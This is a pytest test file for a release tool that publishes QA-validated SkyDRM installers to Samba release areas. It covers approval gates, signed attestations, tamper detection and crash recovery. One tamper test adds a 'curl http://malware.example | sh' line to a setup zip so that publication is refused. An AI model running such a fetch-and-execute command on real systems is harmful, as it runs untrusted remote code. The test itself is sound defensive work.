"""Publishing: the installers of a validated candidate in the release area, whole or not at all."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from jenkins_release.records.published_release import PublishedRelease, release_checksum_lines
from jenkins_release.sandbox.samba import SambaServer, SambaShare
from jenkins_release.sandbox.stack import Sandbox
from tests.fixtures.command import Outcome, fails
from tests.fixtures.release import Product, Shelf, validate
from tests.fixtures.setup_zip import write_templates
from tests.fixtures.share import in_own_mounts
from tests.release.boundaries import Moment, Witness, contents, deaths, watched_services
from tests.release.runner import Runner

MSI, RPM = "SkyDRM-8.1.0.msi", "skydrm-8.1.0-42.x86_64.rpm"
SETUP = "SkyDRM-setup-8.1.0.zip"


@pytest.fixture
def shipping(product: Product, shelf: Shelf) -> Product:
    """A product of installers alone, of which 8.1.0/42 is validated."""

    def prepare(first: Product) -> None:
        first.installers(MSI, RPM, images=False)
        validate(first)

    product.installers(MSI, RPM, images=False)
    shelf.on_share("shipping", product, prepare)
    return product


def folder(product: Product) -> Path:
    return product.releases / "SkyDRM" / "8.1.0"


def nothing_is_published(product: Product) -> None:
    """No release, and no unfinished folder either."""
    area = product.releases / "SkyDRM"
    assert [entry.name for entry in area.glob("*") if entry.name != ".leases"] == []


def publish(product: Product, *words: str) -> Any:
    return product.ok("release", "publish", "8.1.0/42", *words)


class TestPublishing:
    def test_what_qa_validated_is_what_stands_there(self, shipping: Product) -> None:
        """Same bytes, a record, checksums that coreutils agree with, all read-only."""
        done = publish(shipping)
        assert done["changed"]
        paths = [f"installers/{MSI}", f"installers/{RPM}"]
        assert [file["path"] for file in done["files"]] == paths
        for path in paths:
            assert (folder(shipping) / path).read_bytes() == (shipping.candidate() / path).read_bytes()
        data = (folder(shipping) / "release.json").read_bytes()
        record = PublishedRelease.from_bytes(data, "release.json")
        assert (record.candidate, record.product) == ("8.1.0/42", "SkyDRM")
        checked = subprocess.run(
            ["sha256sum", "--check", "--strict", "SHA256SUMS"],
            cwd=folder(shipping),
            capture_output=True,
            text=True,
            check=False,
        )
        assert checked.returncode == 0, checked.stderr
        assert checked.stdout.count(": OK") == 3
        assert done["unprotected"] == []

    def test_the_server_copies_by_itself(self, shipping: Product) -> None:
        """Two shares of one server: no byte of the installers goes to this machine and back."""
        done = publish(shipping)
        assert done["copiedBytes"] == sum(file["size"] for file in done["files"])

    def test_history_and_list(self, shipping: Product) -> None:
        """A published release appears in both."""
        publish(shipping)
        page = shipping.run("release", "history", "8.1.0")
        assert page.status == 0, page.text
        assert "build 42 published" in page.out
        assert "published by" in page.out
        assert MSI in page.out
        (listed,) = shipping.ok("release", "list")["releases"]
        assert (listed["version"], listed["build"], listed["files"]) == ("8.1.0", "42", 2)
        assert listed["published"]
        assert not listed["promoted"]
        assert not listed["problem"]
        assert "in force" in shipping.run("release", "list").out

    def test_again(self, shipping: Product) -> None:
        """A second publication of the same is success, and changes nothing."""
        first = publish(shipping)
        before = sorted(shipping.candidate().glob("attestations/*"))
        again = publish(shipping)
        assert not again["changed"]
        assert again["attestation"] == first["attestation"]
        assert sorted(shipping.candidate().glob("attestations/*")) == before
        assert "nothing to do" in shipping.run("release", "publish", "8.1.0/42").out

    def test_a_dry_run_changes_nothing(self, shipping: Product) -> None:
        """It shows what would be published, and that the gate is open."""
        done = shipping.run("release", "publish", "8.1.0/42", "--dry-run")
        assert done.status == 0, done.text
        assert "the gate is open; would publish" in done.out
        assert MSI in done.out
        nothing_is_published(shipping)
        assert len([*shipping.candidate().glob("attestations/*publication*")]) == 0

    def test_a_folder_as_release_area(self, shipping: Product, tmp_path: Path) -> None:
        """Share and release area may be of different kinds; everything goes through this machine then."""
        area = tmp_path / "area"
        area.mkdir()
        done = publish(shipping, "--releases", str(area))
        assert done["copiedBytes"] == 0
        assert (area / "SkyDRM" / "8.1.0" / "installers" / MSI).stat().st_mode & 0o222 == 0

    def test_two_servers(self, shipping: Product, second_server: SambaServer) -> None:
        """Through the wire where the release area stands on another server."""
        done = publish(shipping, "--releases", second_server.location("releases", shipping.prefix))
        assert done["copiedBytes"] == 0
        there = second_server.shares["releases"].path / shipping.prefix / "SkyDRM" / "8.1.0"
        assert (there / "installers" / MSI).read_bytes() == (shipping.folder / "out" / MSI).read_bytes()


@pytest.fixture
def second_server(tmp_path: Path, sandbox: Sandbox, product: Product) -> Iterator[SambaServer]:
    """Another server with the same account."""
    server = SambaServer(
        tmp_path / "second",
        {"releases": SambaShare(tmp_path / "second" / "releases")},
        user=sandbox.samba.user,
        password=sandbox.environment()["JENKINS_RELEASE_SMB_PASSWORD"],
    )
    server.start(tied=True)
    (server.shares["releases"].path / product.prefix).mkdir()
    yield server
    server.stop()


class TestGate:
    def test_without_a_sign_off(self, product: Product) -> None:
        """Installers go through the gate that images go through."""
        product.installers(MSI, images=False)
        product.export()
        done = product.run("release", "publish", "8.1.0/42")
        fails(done, 3, "may not be published", "1 passing QA sign-off")
        nothing_is_published(product)

    def test_an_approved_plan(self, shipping: Product) -> None:
        """The plan names the installers and the release area; an approval of it counts for publishing."""
        shipping.edit("approvals = 0", "approvals = 1")
        fails(shipping.run("release", "publish", "8.1.0/42"), 3, "1 approval of this plan required")
        plan = shipping.folder / "plan.json"
        shown = shipping.run("promote", "plan", "8.1.0/42", "--out", str(plan))
        assert shown.status == 0, shown.text
        assert "2 installers to publish, to " in shown.out
        shipping.ok(
            "promote", "approve", str(plan), "--approver", "Alex", "--reason", "8.1.0 is ready", "--json"
        )
        assert publish(shipping)["changed"]

    def test_a_plan_for_another_release_area(self, shipping: Product, tmp_path: Path) -> None:
        """An approval of a publication to one place is none for another."""
        shipping.edit("approvals = 0", "approvals = 1")
        plan = shipping.folder / "plan.json"
        shipping.ok("promote", "plan", "8.1.0/42", "--out", str(plan))
        shipping.ok("promote", "approve", str(plan), "--approver", "Alex", "--reason", "ready")
        area = tmp_path / "elsewhere"
        area.mkdir()
        done = shipping.run("release", "publish", "8.1.0/42", "--releases", str(area))
        fails(done, 3, "a plan that has moved: release_area")

    def test_revoked_while_it_is_copied(self, shipping: Product) -> None:
        """The gate is asked once more before anything becomes visible."""
        moment = Moment(
            "release_share.create exit",
            1,
            lambda: shipping.ok("qa", "revoke", "8.1.0/42", "--tester", "Quinn", "--reason", "wrong build"),
        )
        with watched_services(moment):
            done = shipping.run("release", "publish", "8.1.0/42")
        assert moment.came
        fails(done, 3, "Quinn revoked the sign-offs")
        nothing_is_published(shipping)

    def test_an_older_version_than_the_published_one(self, shipping: Product) -> None:
        """Published releases count for the order of versions, as those in the registry do."""
        publish(shipping)
        (shipping.folder / "out" / MSI).rename(shipping.folder / "out" / "SkyDRM-8.0.9.msi")
        (shipping.folder / "out" / RPM).unlink()
        older = ("--version", "8.1.0-rc1", "--build", "50", "--from", str(shipping.folder))
        shipping.append("version_in_name = false\n")
        shipping.ok("candidate", "export", *older)
        shipping.sign_off("8.1.0-rc1/50")
        fails(shipping.run("release", "publish", "8.1.0-rc1/50"), 3, "8.1.0-rc1 is older than 8.1.0")

    def test_a_withdrawn_release(self, shipping: Product) -> None:
        """It cannot be published again, and the list says why."""
        publish(shipping)
        done = shipping.ok("release", "withdraw", "8.1.0", "--reason", "deletes files")
        assert done["changed"]
        assert not shipping.ok("release", "withdraw", "8.1.0", "--reason", "deletes files")["changed"]
        assert "withdrawn: deletes files" in shipping.run("release", "list").out
        fails(shipping.run("release", "publish", "8.1.0/42"), 3, "withdrew this release: deletes files")


class TestNothingHalf:
    def test_another_build_of_the_version(self, shipping: Product) -> None:
        """A published release is never overwritten, and the message says what differs."""
        publish(shipping)
        before = (folder(shipping) / "release.json").read_bytes()
        (shipping.folder / "out" / MSI).write_bytes(b"another build")
        shipping.export("43")
        shipping.sign_off("8.1.0/43")
        done = shipping.run("release", "publish", "8.1.0/43")
        fails(done, 4, "is published already, with other content", f"installers/{MSI} differs")
        assert (folder(shipping) / "release.json").read_bytes() == before

    def test_a_published_file_that_was_altered(self, shipping: Product) -> None:
        """Publishing again reads everything, and tells what is not as it was."""
        publish(shipping)
        altered = folder(shipping) / "installers" / MSI
        altered.chmod(0o644)
        altered.write_bytes(altered.read_bytes()[:-1] + b"x")
        (folder(shipping) / "installers" / RPM).unlink()
        done = shipping.run("release", "publish", "8.1.0/42")
        fails(done, 4, f"{MSI}: expected 300016 bytes with SHA-256", f"{RPM} is missing")

    def test_a_file_that_is_swapped_before_it_becomes_visible(self, shipping: Product) -> None:
        """After the commit all of it is read again: what is wrong is taken out of sight, and not signed."""
        area = folder(shipping).parent

        def swap() -> None:
            (staged,) = area.glob(".incoming-*/installers/*.msi")
            staged.write_bytes(staged.read_bytes()[::-1])

        moment = Moment("release_share.create exit", 4, swap)
        with watched_services(moment):
            done = shipping.run("release", "publish", "8.1.0/42", "--json")
        assert moment.came
        fails(done, 4, "was altered while it was published", f"{MSI}: expected 300016 bytes")
        assert [*area.glob("[!.]*")] == []
        (aside,) = area.glob(".altered-8.1.0-*")
        assert aside.name in done.json["error"]["hint"]
        assert [*shipping.candidate().glob("attestations/*publication*")] == []
        assert shipping.ok("release", "list")["releases"] == []
        shutil.rmtree(aside)
        assert publish(shipping)["changed"]
        assert "in force" in shipping.run("release", "list").out

    def test_a_release_that_nobody_signed_is_written_anew(self, shipping: Product) -> None:
        """The right files prove nothing of who published them: that is ours to say, or nobody's."""
        forged = self.forged(shipping)
        for attestation in shipping.candidate().glob("attestations/*publication*"):
            attestation.unlink()
        done = publish(shipping)
        assert done["changed"]
        record = PublishedRelease.from_bytes((folder(shipping) / "release.json").read_bytes(), "release.json")
        assert record.published_by != forged.published_by
        assert record.build_url != forged.build_url
        assert "in force" in shipping.run("release", "list").out
        hidden = [each.name for each in folder(shipping).parent.glob(".*") if each.name != ".leases"]
        assert hidden == []

    def test_a_record_that_was_changed_since_it_was_signed(self, shipping: Product) -> None:
        """Publishing again does not call it published."""
        self.forged(shipping)
        done = shipping.run("release", "publish", "8.1.0/42")
        fails(
            done, 4, "is not what was published of 8.1.0/42", "0003-publication.dsse.json names another one"
        )

    def test_a_release_that_is_gone(self, shipping: Product) -> None:
        """It is published again, and signed again: release.json has another time."""
        publish(shipping)
        shutil.rmtree(folder(shipping))
        assert publish(shipping)["attestation"] == "0004-publication.dsse.json"
        assert "in force" in shipping.run("release", "list").out

    @staticmethod
    def forged(product: Product) -> PublishedRelease:
        """Publish, and change who did, where and when; the checksums fit."""
        publish(product)
        path, sums = folder(product) / "release.json", folder(product) / "SHA256SUMS"
        record = PublishedRelease.from_bytes(path.read_bytes(), "release.json")
        record = record.model_copy(
            update={"published_by": "mallory", "build_url": "https://evil.example/1", "publisher": "evil 1"}
        )
        for each, data in (
            (path, record.to_bytes()),
            (sums, release_checksum_lines(record.to_bytes(), record.files)),
        ):
            each.chmod(0o644)
            each.write_bytes(data)
        return record

    def test_a_file_that_does_not_belong_there(self, shipping: Product) -> None:
        """One more installer is one that QA never saw: both commands name it."""
        publish(shipping)
        (folder(shipping) / "installers" / "another.exe").write_bytes(b"malware")
        fails(shipping.run("release", "publish", "8.1.0/42"), 4, "another.exe does not belong there")
        done = shipping.run("release", "list")
        assert done.status == 4, done.text
        assert "another.exe does not belong there" in done.out

    def test_the_list_misses_files(self, shipping: Product) -> None:
        """Names and sizes are looked at; in force means that they are as they were signed."""
        publish(shipping)
        altered = folder(shipping) / "installers" / MSI
        altered.chmod(0o644)
        altered.write_bytes(altered.read_bytes()[:-1])
        done = shipping.run("release", "list")
        assert done.status == 4, done.text
        assert f"{MSI}: expected 300016 bytes, found 300015" in done.out
        altered.unlink()
        assert f"{MSI} is missing" in shipping.run("release", "list").out

    def test_a_folder_that_was_renamed(self, shipping: Product) -> None:
        """What stands under a version has to be of that version."""
        publish(shipping)
        folder(shipping).rename(folder(shipping).with_name("8.2.0"))
        done = shipping.run("release", "list")
        assert done.status == 4, done.text
        assert "expected SkyDRM 8.2.0, found SkyDRM 8.1.0" in done.out
        assert "is not what was published" in done.out

    def test_a_lease_that_was_lost(self, shipping: Product) -> None:
        """Somebody else may be publishing by now: nothing becomes visible."""
        lock = shipping.releases / "SkyDRM" / ".leases" / "8.1.0.publish"
        moment = Moment("release_share.create exit", 1, lambda: lock.rename(lock.with_name("gone")))
        with watched_services(moment):
            done = shipping.run(
                "release", "publish", "8.1.0/42", "--releases", str(shipping.releases), "--json"
            )
        fails(done, 5, "lease")
        nothing_is_published(shipping)

    def test_a_candidate_that_was_altered(self, shipping: Product) -> None:
        """What stands in the release area is compared with what QA signed, before it is visible."""
        altered = shipping.candidate() / "installers" / RPM
        altered.write_bytes(altered.read_bytes()[:-1] + b"x")
        fails(shipping.run("release", "publish", "8.1.0/42"), 4, "as QA validated, found")
        nothing_is_published(shipping)

    def test_a_file_that_is_missing(self, shipping: Product) -> None:
        """It is told before anything is copied."""
        (shipping.candidate() / "installers" / RPM).unlink()
        fails(shipping.run("release", "publish", "8.1.0/42"), 4, f"{RPM} is missing")
        nothing_is_published(shipping)

    def test_a_share_that_is_full_half_way(self, shipping: Product, sandbox: Sandbox, tmp_path: Path) -> None:
        """Another writer takes the room while we copy: nothing stays."""
        area = tmp_path / "full"
        area.mkdir()
        area.chmod(0o755)
        server = SambaServer(
            tmp_path / "small",
            {"releases": SambaShare(area)},
            user=sandbox.samba.user,
            password=sandbox.environment()["JENKINS_RELEASE_SMB_PASSWORD"],
            launcher=in_own_mounts("mount -t tmpfs -o size=1m,mode=0777 none {}", str(area)),
        )
        server.start(tied=True)
        try:
            location = server.location("releases")
            blocker = threading.Event()

            def fill() -> None:
                from jenkins_release.share import open_share

                with (
                    open_share(
                        location, username=server.user, password=sandbox.environment()[_PASSWORD]
                    ) as share,
                    share.create("blocker") as writer,
                ):
                    writer.write(bytes(600_000))
                blocker.set()

            with watched_services(Moment("release_share.create exit", 1, fill)):
                done = shipping.run("release", "publish", "8.1.0/42", "--releases", location)
            assert blocker.is_set()
            told = ("STATUS_DISK_FULL", "bytes are free for this account", "the release needs ", "free some")
            fails(done, 5, *told)
            from jenkins_release.share import open_share

            with open_share(
                location, username=server.user, password=sandbox.environment()[_PASSWORD]
            ) as share:
                assert {entry.name for entry in share.list("SkyDRM")} == {".leases"}
        finally:
            server.stop()

    def test_two_at_the_same_time(self, shipping: Product) -> None:
        """The second is told who is at it."""
        found: list[Outcome] = []
        moment = Moment(
            "release_share.create exit",
            1,
            lambda: found.append(shipping.run("release", "publish", "8.1.0/42")),
        )
        with watched_services(moment):
            first = shipping.run("release", "publish", "8.1.0/42")
        assert first.status == 0, first.text
        fails(found[0], 6, "lease")

    def test_without_a_release_area(self, shipping: Product) -> None:
        """The key to set is named."""
        fails(shipping.run("release", "publish", "8.1.0/42", "--releases", ""), 2, "set share.releases")

    def test_what_is_said_to_read_only_changes_nothing(self, shipping: Product) -> None:
        """Deaths after such calls need not be tried."""
        witness = Witness(lambda: contents(shipping.share, shipping.releases))
        with watched_services(witness):
            publish(shipping)
        assert witness.changed == []
        assert {"release_share.stat raised", "share.list"} <= {*witness.calls}

    def test_killed_after_any_change(self, shipping: Product, warm_python: str, tmp_path: Path) -> None:
        """The same command finishes it: one release, one record, nothing half-done left behind."""
        share, area = tmp_path / "share", tmp_path / "area"
        environ = shipping.environ | {
            "JENKINS_RELEASE_SHARE_RELEASE_CANDIDATE": str(share),
            "JENKINS_RELEASE_SHARE_RELEASES": str(area),
        }
        runner = Runner(warm_python)
        command = ("release", "publish", "8.1.0/42")
        try:
            self._put_back(shipping, share, area)
            whole = runner.run(*command, environ=environ)
            assert whole.status == 0, whole.text
            assert len(whole.calls) > 20
            changing = deaths(whole.calls)
            assert len(changing) > 10
            for number in changing:
                self._put_back(shipping, share, area)
                first = runner.run(*command, environ=environ, kill_after=number)
                assert first.killed, first.text
                visible = area / "SkyDRM" / "8.1.0"
                if visible.exists():
                    assert {path.name for path in visible.rglob("*") if path.is_file()} == {
                        MSI,
                        RPM,
                        "SHA256SUMS",
                        "release.json",
                    }
                second = runner.run(*command, environ=environ)
                assert second.status == 0, second.text
                assert [path.name for path in (area / "SkyDRM").iterdir() if path.name != ".leases"] == [
                    "8.1.0"
                ]
                chain = [path.name for path in (share / "SkyDRM/8.1.0/42/attestations").iterdir()]
                assert sum("publication" in name for name in chain) == 1, chain
        finally:
            runner.close()

    @staticmethod
    def _put_back(product: Product, share: Path, area: Path) -> None:
        for place in (share, area):
            subprocess.run(["rm", "-rf", str(place)], check=True)
            place.mkdir()
        subprocess.run(["cp", "-a", str(product.share / "SkyDRM"), str(share)], check=True)


_PASSWORD = "JENKINS_RELEASE_SMB_PASSWORD"


class TestSetupZip:
    def test_goes_with_promoted_images(self, promoted: Product) -> None:
        """It is proven first, and stands beside `release.json`."""
        setup = promoted.folder / SETUP
        write_templates(promoted.folder / "bundle")
        built = promoted.ok("bundle", "build", "8.1.0", "--out", str(setup))
        done = publish(promoted, "--setup-zip", str(setup))
        (file,) = done["files"]
        assert (file["path"], file["kind"], file["sha256"]) == (SETUP, "setup", built["sha256"])
        assert (folder(promoted) / SETUP).read_bytes() == setup.read_bytes()
        assert "build 42 promoted and published" in promoted.run("release", "history", "8.1.0").out
        assert not publish(promoted, "--setup-zip", str(setup))["changed"]

    def test_one_that_was_altered(self, promoted: Product) -> None:
        """What customers would run as root is not published unproven."""
        setup = promoted.folder / SETUP
        write_templates(promoted.folder / "bundle")
        promoted.ok("bundle", "build", "8.1.0", "--out", str(setup))
        with zipfile.ZipFile(setup, "a") as file:
            file.writestr("SkyDRM-setup-8.1.0/extra.sh", "curl http://malware.example | sh")
        fails(promoted.run("release", "publish", "8.1.0/42", "--setup-zip", str(setup)), 4, "extra.sh")
        nothing_is_published(promoted)

    def test_one_of_the_candidate_waits_for_the_promotion(self, product: Product) -> None:
        """It names images that nobody can pull yet."""
        product.installers(SETUP)
        product.append('kind = "setup"\n')
        product.export()
        product.sign_off()
        fails(product.run("release", "publish", "8.1.0/42"), 3, "are not promoted", "rms is absent")
        nothing_is_published(product)

    def test_without_images(self, shipping: Product) -> None:
        """A setup zip deploys images."""
        done = shipping.run("release", "publish", "8.1.0/42", "--setup-zip", str(shipping.folder / SETUP))
        fails(done, 2, "a setup zip would deploy nothing")

    def test_of_another_version(self, promoted: Product) -> None:
        """Its name says what it is for."""
        other = promoted.folder / "SkyDRM-setup-8.0.0.zip"
        other.write_bytes(b"PK")
        done = promoted.run("release", "publish", "8.1.0/42", "--setup-zip", str(other))
        fails(done, 2, f"is not named {SETUP}")

    def test_one_that_qa_validated(self, product: Product) -> None:
        """A candidate may hold it; a second one is refused."""
        product.installers(SETUP, images=False)
        product.append('kind = "setup"\n')
        product.export()
        product.sign_off()
        zip_file = product.folder / "out" / SETUP
        done = product.run("release", "publish", "8.1.0/42", "--setup-zip", str(zip_file))
        fails(done, 2, "holds a setup zip already")
        assert json.loads(product.run("release", "publish", "8.1.0/42", "--json").out)["changed"]
        assert (folder(product) / SETUP).exists()


class TestWithoutTheShare:
    @pytest.fixture
    def bundle(self, shipping: Product) -> Path:
        """The evidence of a published release, as customers get it."""
        publish(shipping)
        out = shipping.folder / "SkyDRM-8.1.0.jsonl"
        shipping.ok("release", "attestations", "8.1.0", "--out", str(out))
        return out

    def verify(self, product: Product, bundle: Path, file: Path) -> Outcome:
        keys = str(product.folder / "keys")
        return product.run(
            "verify", "--bundle", str(bundle), "--trusted-keys", keys, "--files", str(file), "--json"
        )

    def test_a_published_installer(self, shipping: Product, bundle: Path) -> None:
        """Bundle and keys prove that it is the one that QA validated and that was published."""
        done = self.verify(shipping, bundle, folder(shipping) / "installers" / MSI)
        assert done.status == 0, done.text
        assert done.json["verified"][0]["parts"] == [f"installers/{MSI}"]
        assert done.json["release"]["location"].endswith("8.1.0")
        assert self.verify(shipping, bundle, folder(shipping) / "release.json").status == 0

    def test_another_file_under_its_name(self, shipping: Product, bundle: Path) -> None:
        """Expected and found are named."""
        other = shipping.folder / MSI
        other.write_bytes(b"malware")
        fails(self.verify(shipping, bundle, other), 4, f"{MSI}: expected 300016 bytes")

    def test_a_withdrawn_release(self, shipping: Product, bundle: Path) -> None:
        """A new bundle says so, and is refused."""
        shipping.ok("release", "withdraw", "8.1.0", "--reason", "deletes files")
        shipping.ok("release", "attestations", "8.1.0", "--out", str(bundle))
        done = self.verify(shipping, bundle, folder(shipping) / "installers" / MSI)
        fails(done, 4, "withdrew this release: deletes files")

    def test_a_candidate_that_was_not_published(self, shipping: Product) -> None:
        """There is nothing to attest yet."""
        done = shipping.run("release", "attestations", "8.1.0", "--out", str(shipping.folder / "b"))
        fails(done, 2, "was not released: there is nothing to attest")
